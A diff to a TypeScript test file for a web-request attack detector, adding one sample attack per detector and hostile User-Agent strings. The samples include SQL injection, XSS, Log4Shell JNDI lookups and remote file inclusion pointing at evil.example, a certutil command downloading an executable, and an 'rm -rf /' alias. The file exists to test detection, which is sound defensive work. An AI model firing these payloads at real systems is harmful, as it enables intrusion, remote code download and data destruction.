@@ -233,6 +233,47 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['sqli-tautology', "/search?q=x'+or+select+*"],
   ['sqli-tautology', "/search?q=x'+and+select+name,pass+from+users"],
   ['sqli-server-objects', "/login?user=admin'--sp_password"],
+  // One for each detector that had no attack here, written from its technique (a test below asks for one each).
+  ['sqli-comment-evasion', '/item?id=1/*!50000union*/+/*!50000select*/+1,2'],
+  ['sqli-comment-evasion', '/item?id=1/**/and/**/ascii(substr(user(),1,1))>64'],
+  ['sqli-order-by-probe', '/item?id=1+order+by+5--'],
+  ['sqli-bare-comparison', '/item?id=7=7'],
+  ['sqli-operator-after-quote', "/search?q=x'+or+name+rlike+'^a"],
+  ['sqli-postgres-cast', '/item?id=1+and+1=(select+version())::int'],
+  ['sqli-json-operator', "/item?id=1+and+json_extract(doc,'$.role')='admin'"],
+  ['xss-js-uri', '/redirect?url=vbscript:msgbox(1)'],
+  ['rfi-trailing-question', '/index.php?page=http://evil.example/shell.txt?'],
+  ['rce-smtp-injection', '/contact?email=a@b.example%0d%0amail+from:+x@evil.example'],
+  ['rce-mail-protocol', '/webmail?folder=INBOX%0d%0aa1+select+inbox'],
+  ['rce-windows-switch', '/ping?host=127.0.0.1%26+certutil+-urlcache+-f+http://evil.example/a.exe'],
+  ['rce-shell-syntax', '/p?cmd=alias+ls%3D%27rm+-rf+%2F%27'],
+  ['rce-windows-for-if', '/p?c=for+/f+%25i+in+(%27dir%27)+do+echo+%25i'],
+  ['php-open-tag', '/p?x=<?php+echo+1;?>'],
+  ['php-variable-call', '/p?x=("system")("id")'],
+  ['php-open-tag-any', '/p?x=[php]echo+1;[/php]'],
+  ['rce-tilde-expansion', '/p?dir=~%2B/'],
+  ['php-variable-function', '/p?x=$f(%27id%27)'],
+  ['java-jndi-lookup', '/p?x=${jndi:ldap://evil.example/a}'],
+  ['java-nested-lookup', '/p?x=${${lower:j}ndi:ldap://evil.example/a}'],
+  ['java-serialized', '/p?data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'],
+  ['generic-prototype-brackets', '/api?q[constructor][prototype][admin]=1'],
+  ['generic-node-dos', '/api?x=while(true){}'],
+  ['rce-windows-if-compare', '/p?c=x%26if+%25a%25+equ+1+echo+y'],
+  ['generic-template-math', '/p?name=${7*7}'],
+  ['generic-node-dos-allocation', "/api?x='a'.repeat(100000000)"],
+  ['php-concatenated-name-call', "/p?x=('sys'.'tem')('id')"],
+  ['rfi-unc-path', '/p?file=%5C%5Cevil.example%5Cshare%5Cx.php'],
+  ['xss-js-escaped-tag', '/p?x=\\u003cscript\\u003ealert(1)'],
+  ['rce-sleep-probe', '/p?x=1;sleep+5'],
+  ['php-non-alphanumeric', '/p?x=$_=[];$_=@"$_";'],
+];
+
+/** Attacks in the User-Agent, for the detectors that read only that field. */
+const USER_AGENT_ATTACKS: ReadonlyArray<readonly [string, string]> = [
+  ['scanner-ua', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
+  ['rce-ua-command', 'bash -c id'],
+  ['rce-lone-command', 'whoami'],
+  ['rce-command-chain-ua', 'Mozilla/5.0 | id'],
 ];
 
 const BENIGN: readonly string[] = [
@@ -405,6 +446,10 @@ describe('rule families', () => {
     expect(detectorsOf(url)).toContain(detector);
   });
 
+  it.each(USER_AGENT_ATTACKS.map(([detector, userAgent]) => ({ detector, userAgent })))('$detector in the User-Agent: $userAgent', ({ detector, userAgent }) => {
+    expect(detectorsOf('/', undefined, userAgent)).toContain(detector);
+  });
+
   it.each(BENIGN)('leaves %s alone', (url) => {
     expect(scorer.score(url, BROWSER, undefined)).toBeUndefined();
   });
@@ -492,6 +537,12 @@ describe('rule families', () => {
       }
     }
     expect(checked).toBeGreaterThan(ATTACKS.length);
+  });
+
+  it("has an attack here that each detector's pattern matches, so that none is dead", () => {
+    const views = [...ATTACKS.map(([, url]) => url), ...USER_AGENT_ATTACKS.map(([, userAgent]) => userAgent)].map((value) => normalise(value, 3));
+    const unmatched = DETECTORS.filter((det) => !views.some((v) => det.pattern.test(viewText(v, det.view))));
+    expect(unmatched.map((det) => `${det.id} ${det.pattern.source.slice(0, 60)}`)).toEqual([]);
   });
 
   it('gates on punctuation only: an unknown character is refused, a non-ASCII one shares a bit', () => {
